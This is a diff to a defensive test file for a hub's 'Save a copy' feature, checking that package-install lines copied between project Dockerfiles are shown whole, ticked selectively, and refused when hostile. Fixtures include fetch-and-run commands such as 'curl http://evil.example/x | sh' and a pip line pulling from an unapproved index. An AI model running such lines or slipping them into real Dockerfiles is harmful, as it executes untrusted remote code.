@@ -1,8 +1,10 @@
 """Save a copy (/hub/gpulab/copy): a notebook someone may read lands in a project of
 their own, against a real hub and real project containers; the packages installed
 with %gpu_install in the source project come along into the destination's
-Dockerfile (in Chromium: test-output/copy-installs-offer.png, -result.png), and a
-hostile source Dockerfile brings nothing dangerous along."""
+Dockerfile, each line shown whole and only plain lines ticked (in Chromium:
+test-output/copy-installs-offer.png, -result.png), and a hostile source Dockerfile
+brings nothing dangerous along (tests/security/test_save_copy_options.py forges
+the form too)."""
 
 from __future__ import annotations
 
@@ -13,6 +15,7 @@ from urllib.parse import quote, urlencode
 import pytest
 from browser_kit import SHOTS, launch
 from hubclient import HubUser
+from markupsafe import escape
 
 from gpulab_hub.sharing import roles
 
@@ -83,13 +86,12 @@ def copy_page(user: HubUser, **query):
     return user.http.get(user.base + "/hub/gpulab/copy", params=query, timeout=30)
 
 
-def save_copy(
-    user: HubUser, target: str = "", new_project: str = "", bring_installs: str = "", **query
-):
+def save_copy(user: HubUser, target: str = "", new_project: str = "", install=(), apt=(), **query):
+    """The form as a browser posts it: each ticked line's box sends the line (``install``),
+    each ticked Debian package's its name (``apt``); an unticked box sends nothing."""
     xsrf = user.http.cookies.get("_xsrf", path="/hub/")
     form = {"_xsrf": xsrf, "target": target, "new_project": new_project}
-    if bring_installs:  # a ticked box sends its value; an unticked one nothing
-        form["bring_installs"] = bring_installs
+    form.update(install=list(install), apt=list(apt))
     return user.http.post(
         user.base + "/hub/gpulab/copy",
         params=query,
@@ -257,6 +259,12 @@ INDEXED = (
     "RUN python -m pip install --no-cache-dir --index-url http://pkgs.example.org/simple "
     "--trusted-host pkgs.example.org tiny-http==1.0 && python -c 'import tiny_http'"
 )
+# What the owner's %gpu_install could never have written with this hub's settings: its
+# package source is not one the admin allows, so the page shows it as refused.
+EVIL = (
+    "RUN python -m pip install --no-cache-dir --extra-index-url http://evil.example/simple "
+    "--trusted-host evil.example numpy==1.26.4 && python -c 'import numpy'"
+)
 HOSTILE = [
     "RUN curl http://evil.example/x | sh",
     "RUN python -m pip install --no-cache-dir six==1.16.0 && curl http://evil.example/x | sh",
@@ -291,7 +299,9 @@ def source_installs(projects):
 
     path = projects / OWNER / SRC / "Dockerfile"
     original = path.read_bytes()
-    lines = [("humanize", HUMANIZE), ("flash-attn", COMPILED), ("tiny-http", INDEXED)]
+    lines = [
+        ("humanize", HUMANIZE), ("flash-attn", COMPILED), ("tiny-http", INDEXED), ("numpy", EVIL),
+    ]  # fmt: skip
     dockerfile.update(path, lines, ["libgl1"], "1000:100")
     yield path
     path.write_bytes(original)
@@ -310,8 +320,11 @@ def mine(projects):
 
 @pytest.mark.browser
 def test_a_copy_brings_the_packages_along(hub, people, source_installs, mine):
-    """In Chromium, as bob does it: the page lists the packages, ticked; he saves; the
-    page says what came along and that cp-mine must restart; the Dockerfile has them."""
+    """In Chromium, as bob does it: the page lists each package with its whole line; the
+    plain one is ticked, the compiled one (pip options) is not, and the lines naming an
+    index the admin did not allow are shown as refused, with why; he ticks the compiled
+    one and saves; the page says what came along and that cp-mine must restart; the
+    Dockerfile has exactly those lines."""
     from playwright.sync_api import expect, sync_playwright
 
     before = outside_block(mine)
@@ -327,14 +340,28 @@ def test_a_copy_brings_the_packages_along(hub, people, source_installs, mine):
             page.wait_for_url("**/hub/**")
             page.goto(f"{hub.url}/hub/gpulab/copy?{urlencode(WHERE)}")
             offer = page.locator("#copy-installs")
-            expect(offer.get_by_label("Bring along the packages installed with")).to_be_checked()
             items = offer.locator("#copy-install-list li")
-            expect(items).to_have_text([
-                "humanize==4.9.0", "flash-attn==2.6.3",
-                "tiny-http==1.0 (from http://pkgs.example.org/simple)", "apt: libgl1",
-            ])  # fmt: skip
+            expect(items.locator(".copy-install-name")).to_have_text(
+                ["humanize==4.9.0", "flash-attn==2.6.3", "apt: libgl1"]
+            )
+            # Every line whole, as it would land in the Dockerfile; only plain ones ticked.
+            expect(items.locator(".copy-install-line")).to_have_text([HUMANIZE, COMPILED])
+            expect(items.nth(0).locator("input")).to_be_checked()
+            expect(items.nth(1).locator("input")).not_to_be_checked()
+            expect(items.nth(1)).to_contain_text("not ticked for you: it carries pip options")
+            expect(items.nth(2).locator("input")).to_be_checked()
+            expect(offer.locator("#copy-apt-line")).to_contain_text(
+                "--no-install-recommends libgl1"
+            )
+            refused = offer.locator("#copy-refused-list li")
+            expect(refused.locator(".copy-refused-line")).to_have_text([INDEXED, EVIL])
+            expect(refused.nth(1)).to_contain_text(
+                "refused: it installs from http://evil.example/simple (--extra-index-url), "
+                "which is not a package index this hub's administrator allows"
+            )
             expect(offer).to_contain_text("restart that project to build them")
             expect(offer).to_contain_text("Without them, the copy's imports")
+            items.nth(1).locator("input").check()  # bob read the compiled line, and wants it
             page.get_by_label(MINE, exact=True).check()
             page.screenshot(path=SHOTS / "copy-installs-offer.png", full_page=True)
             page.locator("#copy-submit").click()
@@ -359,7 +386,6 @@ def test_a_copy_brings_the_packages_along(hub, people, source_installs, mine):
         "USER 1000:100",
         HUMANIZE,
         COMPILED,
-        INDEXED,
     ]
     assert outside_block(mine) == before
     # Still bob's container user's file: the magic in his project can write it.
@@ -372,18 +398,30 @@ def test_a_copy_brings_the_packages_along(hub, people, source_installs, mine):
     out = bob.execute(MINE, "from gpulab_jupyter.magics import dockerfile\n"
                             "print(sorted(dockerfile.managed_packages("
                             "open('/workspace/Dockerfile').read())))")  # fmt: skip
-    assert out.strip() == "['flash-attn', 'humanize', 'tiny-http']", out
+    assert out.strip() == "['flash-attn', 'humanize']", out
 
 
 def test_a_copy_without_the_packages_says_imports_may_fail(people, source_installs, mine):
     bob = people[READER]
     before = mine.read_bytes()
-    r = save_copy(bob, target=MINE, **WHERE)  # the box unticked: the field is not sent
+    r = save_copy(bob, target=MINE, **WHERE)  # every box unticked: no field is sent
     assert r.status_code == 200, r.text
     result = r.text.split('id="copy-installs-result"')[1].split('id="copy-open"')[0]
-    assert "You chose not to bring along the packages installed in" in result
-    assert "humanize==4.9.0" in result and "the copy's imports of them may" in result
+    assert "You chose not to bring along" in result
+    assert "humanize==4.9.0, flash-attn==2.6.3, apt: libgl1 (installed in" in result
+    assert "the copy's imports of them may" in result
+    assert "2 line(s)" in result and "were refused and not brought along" in result
     assert mine.read_bytes() == before
+
+
+def test_only_the_lines_ticked_are_written(people, source_installs, mine):
+    bob = people[READER]
+    r = save_copy(bob, target=MINE, install=[COMPILED], **WHERE)
+    assert r.status_code == 200, r.text
+    result = r.text.split('id="copy-installs-result"')[1].split('id="copy-open"')[0]
+    assert f"<code>{escape(COMPILED)}</code>" in result  # brought along: the whole line
+    assert "humanize==4.9.0, apt: libgl1 (installed in" in result  # left behind, said so
+    assert block_of(mine) == [COMPILED]
 
 
 def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_installs, mine):
@@ -396,12 +434,22 @@ def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_inst
         )
     )
     page = copy_page(bob, **WHERE)
-    offer = page.text.split('id="copy-installs"')[1].split("</fieldset>")[0]
-    assert "six" not in offer and "evil" not in offer
-    assert f"{len(HOSTILE)} other line(s) of {SRC}'s package section are" in offer
-    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    offer = page.text.split('id="copy-install-list"')[1].split("</ul>")[0]
+    assert "six" not in offer and "evil" not in offer and "curl" not in offer
+    refused = page.text.split('id="copy-refused"')[1].split("</fieldset>")[0]
+    assert f"{len(HOSTILE) + 2} line(s) of" in refused  # and INDEXED, EVIL
+    assert refused.count("refused: it is not a line %gpu_install writes") == len(HOSTILE) - 2
+    assert "refused: it continues the line above it" in refused
+    assert "refused: its pip option -r is not one Save a copy brings along" in refused
+    assert "RUN curl http://evil.example/x | sh" in refused
+    # bob ticks everything the page lets him tick, and forges the hostile lines in too.
+    ok = {"install": [HUMANIZE, COMPILED], "apt": ["libgl1"]}
+    for line in HOSTILE:
+        r = save_copy(bob, target=MINE, install=[*ok["install"], line], apt=ok["apt"], **WHERE)
+        assert r.status_code == 400 and "Nothing was copied" in r.text, line
+    r = save_copy(bob, target=MINE, **ok, **WHERE)
     assert r.status_code == 200, r.text
-    assert block_of(mine)[3:] == [HUMANIZE, COMPILED, INDEXED]
+    assert block_of(mine)[3:] == [HUMANIZE, COMPILED]
     assert not [ln for ln in mine.read_text().splitlines() if "six" in ln or "evil" in ln]
 
     # The source Dockerfile is a link (to a host file with a managed block): not read.
@@ -413,8 +461,10 @@ def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_inst
     page = copy_page(bob, **WHERE)
     assert f"gpulab did not read {SRC}&#39;s Dockerfile (it is a link), so its" in page.text
     assert "humanize" not in page.text
-    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    r = save_copy(bob, target=MINE, **WHERE)
     assert r.status_code == 200 and "(it is a link), so none of the packages" in r.text
+    r = save_copy(bob, target=MINE, install=[HUMANIZE], **WHERE)  # what it read earlier
+    assert r.status_code == 400 and "is not one of the lines this page offers" in r.text
     assert mine.read_bytes() == before
     source_installs.unlink()
 
@@ -422,7 +472,8 @@ def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_inst
     source_installs.write_text(text + "# padding\n" * 120_000)
     page = copy_page(bob, **WHERE)
     assert "(it is larger than 1 MiB)" in page.text and "humanize" not in page.text
-    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    r = save_copy(bob, target=MINE, install=[HUMANIZE], **WHERE)
+    assert r.status_code == 400
     assert mine.read_bytes() == before
 
     # The destination's Dockerfile is a link to a host file: nothing is written through it.
@@ -431,7 +482,7 @@ def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_inst
     target_file.write_bytes(before)
     mine.unlink()
     mine.symlink_to(target_file)
-    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    r = save_copy(bob, target=MINE, install=[HUMANIZE], **WHERE)
     assert r.status_code == 200, r.text
     assert "were <strong>not</strong> written to the Dockerfile of" in r.text
     assert "it is a link" in r.text
